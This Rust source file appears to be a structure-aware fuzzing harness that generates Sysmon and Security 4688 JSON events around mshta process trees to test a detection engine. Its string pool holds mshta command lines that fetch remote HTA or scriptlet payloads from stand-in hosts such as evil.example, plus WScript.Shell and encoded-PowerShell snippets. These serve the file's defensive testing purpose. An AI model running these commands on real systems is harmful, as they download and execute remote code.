//! Structure-aware input for the `engine_events` target: libFuzzer's bytes
//! read by `arbitrary` as a script of telemetry events (Sysmon process trees
//! around mshta, network, DNS, files, module loads, ends, Security 4688)
//! with hostile values (lone surrogates, out-of-range numbers, far-future
//! times, self-parents, deep nesting, free text), framings (lines, CR, CRLF,
//! several on one line, arrays) and pushes cut anywhere, plus snapshot and
//! restore points. Small pools of hosts, GUIDs and pids make events meet
//! (parents, merges, chains), which random text would almost never do.

use arbitrary::{Arbitrary, Unstructured};

/// One step of a script.
#[derive(Debug, Arbitrary)]
pub enum Op {
    /// Append an event to the pending bytes.
    Event(Ev),
    /// Append raw bytes (at most 256) to the pending bytes.
    Raw(Vec<u8>),
    /// Push the pending bytes up to a cut (the rest stays pending).
    Push(u16),
    /// Snapshot the engine and continue on the restored one (its twin
    /// continues without restoring: both must agree from then on).
    Restore,
}

/// One event.
#[derive(Debug, Arbitrary)]
pub struct Ev {
    kind: Kind,
    host: u8,
    guid: u8,
    parent: u8,
    pid: Num,
    parent_pid: Num,
    /// Milliseconds after the previous event (or before, when `back`).
    step: u16,
    back: bool,
    far_future: bool,
    image: u8,
    parent_image: u8,
    cmd: Text,
    framing: Framing,
}

#[derive(Debug, Arbitrary)]
enum Kind {
    Start,
    Security4688,
    End,
    Network {
        ip: u8,
        port: u16,
        inbound: bool,
    },
    Dns(Text),
    File(Text),
    Module(Text),
    /// An event with a nested value this deep.
    Deep(u8),
}

#[derive(Debug, Arbitrary)]
enum Num {
    Str(u8),
    Int(u8),
    Hex(u8),
    Negative,
    Huge,
    NaN,
    Fraction,
    Missing,
}

#[derive(Debug, Arbitrary)]
enum Text {
    Pool(u8),
    Free(String),
    Surrogate,
    Long(u16),
}

#[derive(Debug, Arbitrary)]
enum Framing {
    Line,
    Crlf,
    Cr,
    SameLine,
    InArray,
}

const IMAGES: &[&str] = &[
    r"C:\Windows\System32\mshta.exe",
    r"C:\Windows\SysWOW64\mshta.exe",
    r"C:\Windows\System32\cmd.exe",
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    r"C:\Windows\explorer.exe",
    r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
    r"C:\Windows\System32\rundll32.exe",
    r"C:\Users\Public\evil.hta",
];

const TEXTS: &[&str] = &[
    "mshta https://evil.example/a.hta",
    "mshta.exe vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run\")",
    "mshta javascript:a=GetObject(\"script:https://x.example/p.sct\").Exec();close()",
    r"mshta C:\Users\Public\f.hta",
    r"mshta \\10.0.0.5\share\a.hta",
    "mshta http:\\\\host\\a.hta",
    "mshta //host/a.hta",
    "mshta file://host/share/a.hta",
    "mshta http://0x7f000001/a.hta",
    "mshta %68ttp://evil.example/a.hta",
    r"C:\Users\Public\f.hta:stream",
    "powershell -enc SQBFAFgA",
    "q.example",
    r"C:\Windows\System32\vbscript.dll",
    r"C:\Users\Public\f.hta",
];

impl Text {
    fn render(&self) -> String {
        match self {
            Text::Pool(i) => escape(TEXTS[usize::from(*i) % TEXTS.len()]),
            Text::Free(s) => escape(&s.chars().take(200).collect::<String>()),
            Text::Surrogate => "mshta https://evil.example/\\ud800.hta".to_string(),
            Text::Long(n) => "A".repeat(usize::from(*n) % 5000),
        }
    }
}

impl Num {
    fn render(&self) -> Option<String> {
        Some(match self {
            Num::Str(n) => format!("\"{}\"", 100 + u32::from(*n % 64)),
            Num::Int(n) => format!("{}", 100 + u32::from(*n % 32)),
            Num::Hex(n) => format!("\"0x{:x}\"", 100 + u32::from(*n % 32)),
            Num::Negative => "-1".to_string(),
            Num::Huge => "18446744073709551616".to_string(),
            Num::NaN => "\"NaN\"".to_string(),
            Num::Fraction => "1e999".to_string(),
            Num::Missing => return None,
        })
    }
}

fn escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out
}

/// Renders events, keeping the clock and whether an array is open.
#[derive(Debug, Default)]
pub struct Renderer {
    time: i64,
    in_array: bool,
}

impl Renderer {
    /// Appends one event to `out`.
    pub fn event(&mut self, ev: &Ev, out: &mut Vec<u8>) {
        let step = i64::from(ev.step);
        self.time = if ev.back { self.time - step } else { self.time + step };
        let ms = 1_714_557_600_000 + self.time;
        let time = if ev.far_future { 253_402_300_000_000 } else { ms };
        let host = format!("PC{}", ev.host % 3);
        let guid = |g: u8| format!("{{11111111-0000-0000-0000-{:012x}}}", g % 64);
        let image = escape(IMAGES[usize::from(ev.image) % IMAGES.len()]);
        let parent_image = escape(IMAGES[usize::from(ev.parent_image) % IMAGES.len()]);
        let mut fields = vec![
            format!("\"Hostname\":\"{host}\""),
            format!("\"UtcTime\":{time}"),
            format!("\"ProcessGuid\":\"{}\"", guid(ev.guid)),
            format!("\"Image\":\"{image}\""),
        ];
        if let Some(pid) = ev.pid.render() {
            fields.push(format!("\"ProcessId\":{pid}"));
        }
        let sysmon = "\"Channel\":\"Microsoft-Windows-Sysmon/Operational\"";
        let (id, channel) = match &ev.kind {
            Kind::Start => {
                fields.push(format!("\"CommandLine\":\"{}\"", ev.cmd.render()));
                fields.push(format!("\"ParentProcessGuid\":\"{}\"", guid(ev.parent)));
                fields.push(format!("\"ParentImage\":\"{parent_image}\""));
                if let Some(pid) = ev.parent_pid.render() {
                    fields.push(format!("\"ParentProcessId\":{pid}"));
                }
                (1, sysmon)
            }
            Kind::Security4688 => {
                fields.clear();
                fields.push(format!("\"Computer\":\"{host}\""));
                fields.push(format!("\"TimeCreated\":{time}"));
                fields.push(format!("\"NewProcessName\":\"{image}\""));
                fields.push(format!("\"ParentProcessName\":\"{parent_image}\""));
                fields.push(format!("\"CommandLine\":\"{}\"", ev.cmd.render()));
                if let Some(pid) = ev.pid.render() {
                    fields.push(format!("\"NewProcessId\":{pid}"));
                }
                if let Some(pid) = ev.parent_pid.render() {
                    fields.push(format!("\"ProcessId\":{pid}"));
                }
                (4688, "\"Channel\":\"Security\"")
            }
            Kind::End => (5, sysmon),
            Kind::Network { ip, port, inbound } => {
                fields.push(format!("\"DestinationIp\":\"203.0.113.{ip}\""));
                fields.push(format!("\"DestinationPort\":\"{port}\""));
                fields.push(format!("\"Initiated\":\"{}\"", !inbound));
                (3, sysmon)
            }
            Kind::Dns(name) => {
                fields.push(format!("\"QueryName\":\"{}\"", name.render()));
                (22, sysmon)
            }
            Kind::File(path) => {
                fields.push(format!("\"TargetFilename\":\"{}\"", path.render()));
                (11, sysmon)
            }
            Kind::Module(path) => {
                fields.push(format!("\"ImageLoaded\":\"{}\"", path.render()));
                (7, sysmon)
            }
            Kind::Deep(depth) => {
                let d = usize::from(*depth);
                fields.push(format!("\"x\":{}{}", "[".repeat(d), "]".repeat(d)));
                (1, sysmon)
            }
        };
        let text = format!("{{\"EventID\":{id},{channel},{}}}", fields.join(","));
        match ev.framing {
            Framing::Line | Framing::Crlf | Framing::Cr | Framing::SameLine if self.in_array => {
                out.extend_from_slice(b"]\n");
                self.in_array = false;
            }
            _ => {}
        }
        match ev.framing {
            Framing::Line => out.extend_from_slice(format!("{text}\n").as_bytes()),
            Framing::Crlf => out.extend_from_slice(format!("{text}\r\n").as_bytes()),
            Framing::Cr => out.extend_from_slice(format!("{text}\r").as_bytes()),
            Framing::SameLine => out.extend_from_slice(format!("{text} ").as_bytes()),
            Framing::InArray => {
                out.extend_from_slice(if self.in_array { b",\n" } else { b"[" });
                self.in_array = true;
                out.extend_from_slice(text.as_bytes());
            }
        }
    }

    /// Closes an open array.
    pub fn end(&mut self, out: &mut Vec<u8>) {
        if std::mem::take(&mut self.in_array) {
            out.extend_from_slice(b"]\n");
        }
    }
}

/// The script the bytes describe: a config choice and at most 400 steps.
pub fn script(data: &[u8]) -> (u8, Vec<Op>) {
    let mut u = Unstructured::new(data);
    let config = u.arbitrary::<u8>().unwrap_or(0);
    let mut ops = Vec::new();
    while ops.len() < 400 && !u.is_empty() {
        match u.arbitrary::<Op>() {
            Ok(Op::Raw(mut bytes)) => {
                bytes.truncate(256);
                ops.push(Op::Raw(bytes));
            }
            Ok(op) => ops.push(op),
            Err(_) => break,
        }
    }
    (config, ops)
}
